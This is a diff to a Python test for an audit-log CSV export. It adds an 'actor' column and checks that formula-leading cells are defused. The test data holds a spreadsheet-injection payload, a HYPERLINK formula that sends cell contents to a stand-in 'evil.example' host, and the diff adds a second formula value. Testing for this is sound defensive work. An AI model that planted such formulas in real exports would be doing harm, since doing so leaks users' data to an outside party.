@@ -132,7 +132,9 @@ def test_safe_cell_defuses_formulas(start: str) -> None:
 def test_csv_export_is_safe_and_complete(authy: Authy, services: Services) -> None:
     user = authy.new_user()
     attack = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    services.audit.record("console.note", app_id=authy.app_id, subject=attack, data={"x": "-1"})
+    services.audit.record(
+        "console.note", app_id=authy.app_id, subject=attack, actor="@SUM(1+1)", data={"x": "-1"}
+    )
     services.audit.flush_all()
     lines = "".join(services.reports.audit_export(AuditFilter()))
     rows = list(csv.reader(io.StringIO(lines)))
@@ -142,6 +144,7 @@ def test_csv_export_is_safe_and_complete(authy: Authy, services: Services) -> No
         "event",
         "app_id",
         "subject",
+        "actor",
         "data",
         "prev_hash",
         "hash",
@@ -149,7 +152,7 @@ def test_csv_export_is_safe_and_complete(authy: Authy, services: Services) -> No
     cells = [cell for row in rows for cell in row]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
     note = next(r for r in rows if r[2] == "console.note")
-    assert note[4] == "'" + attack
+    assert (note[4], note[5]) == ("'" + attack, "'@SUM(1+1)")
     created = next(r for r in rows if r[2] == "user.created")
     assert created[4] == f"user:{user.id}"
     only = list(
